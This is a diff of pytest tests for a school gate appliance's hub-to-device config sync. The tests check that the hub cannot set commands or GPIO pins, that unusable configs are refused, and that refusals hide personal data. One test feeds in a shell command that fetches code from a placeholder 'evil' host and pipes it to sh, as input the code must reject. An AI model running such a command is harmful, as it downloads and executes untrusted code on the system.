@@ -302,3 +302,69 @@ def test_the_retained_snapshot_seen_again_is_quietly_ignored(gate: Downlink, hub
     newer = hub.message("roster.snapshot", {"people": []}, version=6)
     assert send(gate, newer)["ok"]
     refused_unchanged(gate, snapshot, "replayed")  # an older message replayed is still refused, loudly
+
+
+def test_the_hub_may_not_set_programs_files_or_pins(gate: Downlink, hub: Hub) -> None:
+    from appliance.sync.downlink import hub_config_sections
+
+    for body in (
+        {"feedback": {"sound": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}},
+        {"feedback": {"gpio": {"green_led": 4}}},
+    ):
+        result = send(gate, hub.message("config", body, version=1))
+        assert not result["ok"] and "the hub may not set feedback." in result["reason"]
+    assert gate.calls["config"] == [] and hub_config_sections(gate.conn) == {}
+    assert send(gate, hub.message("config", {"feedback": {"show_names": False}}, version=1))["ok"]
+    (applied,) = gate.calls["config"]
+    assert applied.feedback.show_names is False and applied.feedback.sound.command == ["aplay", "-q"]
+
+
+def test_a_config_the_gate_cannot_run_is_refused_and_not_kept(gate: Downlink, hub: Hub) -> None:
+    from appliance.sync.downlink import hub_config_sections
+
+    def cannot(config: GateConfig) -> None:
+        raise RuntimeError("GPIO pin 17 is already in use")
+
+    gate.hooks.config_changed = cannot
+    result = send(gate, hub.message("config", {"feedback": {"outputs": ["gpio"]}}, version=1))
+    assert not result["ok"] and "GPIO pin 17" in result["reason"]
+    assert hub_config_sections(gate.conn) == {} and stream_version(gate.conn, "config") == 0
+
+
+def test_hub_settings_are_laid_over_gate_toml_as_it_is_now(tmp_path: Path, hub: Hub) -> None:
+    """After a SIGHUP reload the next hub change must not bring back what IT changed in gate.toml."""
+    file_config = {
+        "now": parse_config({"device": {"id": DEVICE, "school": SCHOOL}, "roster": {"columns": {"class": "Lớp"}}})
+    }
+    database = open_database(tmp_path / "journal.db")
+    applied: list[GateConfig] = []
+    downlink = Downlink(
+        TOPICS,
+        database,
+        hub.key.public_key(),
+        lambda: file_config["now"],
+        publish=lambda topic, data: None,
+        hooks=Hooks(config_changed=applied.append),
+    )
+    file_config["now"] = parse_config(
+        {
+            "device": {"id": DEVICE, "school": SCHOOL},
+            "feedback": {"show_names": False},
+            "roster": {"columns": {"class": "Lớp"}},
+        }
+    )
+    outcome = downlink.handle(
+        TOPICS.downlink_topic("config"),
+        json.dumps(hub.message("config", {"policy": {"debounce_seconds": 3}}, version=1)).encode(),
+    )
+    assert outcome.ok, outcome.reason
+    assert applied[-1].feedback.show_names is False and applied[-1].policy.debounce_seconds == 3
+    assert applied[-1].roster.columns.class_name == "Lớp"
+    database.close()
+
+
+def test_refusals_never_quote_personal_values(seeded: Downlink, hub: Hub) -> None:
+    name = "Nguyễn Văn Bí Mật"
+    message = hub.message("roster.delta", {"upsert": [person("HS7", name, ["04a1b2c3"])]}, version=4, base_version=3)
+    result = send(seeded, message)
+    assert not result["ok"] and "04a1b2c3" not in result["reason"] and name not in result["reason"]
